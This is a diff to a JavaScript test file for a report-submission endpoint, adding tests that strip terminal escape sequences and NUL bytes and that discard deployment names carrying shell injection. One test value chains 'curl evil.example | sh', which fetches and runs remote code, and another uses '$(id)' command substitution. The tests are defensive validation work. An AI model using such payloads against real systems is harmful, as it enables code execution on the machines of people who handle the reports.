@@ -80,10 +80,19 @@ test.each([
   expect(await kept()).toEqual([])
 })
 
-test('a report is kept without a character that the database cannot hold', async () => {
-  expect(await send({ ...report, message: 'a\0b', reference: '\0', release: '\0' })).toBe(204)
-  expect(await kept()).toMatchObject([{ message: 'ab', reference: '', release: '' }])
+test('a report is kept without what steers a terminal, or does not fit the database', async () => {
+  expect(await send({ ...report, message: 'a\0b\u001b[2J\n9 × c', reference: 'A\u009b\0' })).toBe(204)
+  expect(await kept()).toMatchObject([{ message: 'a b [2J 9 × c', reference: 'A' }])
 })
+
+// Who is on call is shown a command with it.
+test.each(['loan; curl evil.example | sh #@1', '$(id)@0123456789ab', '\0'])(
+  'a report that names %j as its deployment is kept without it',
+  async (release) => {
+    expect(await send({ ...report, release })).toBe(204)
+    expect(await kept()).toMatchObject([{ message: report.message, release: null }])
+  },
+)
 
 test('a report over 4 KB is rejected', async () => {
   expect(await send({ ...report, more: 'x'.repeat(reportLimit) })).toBe(413)
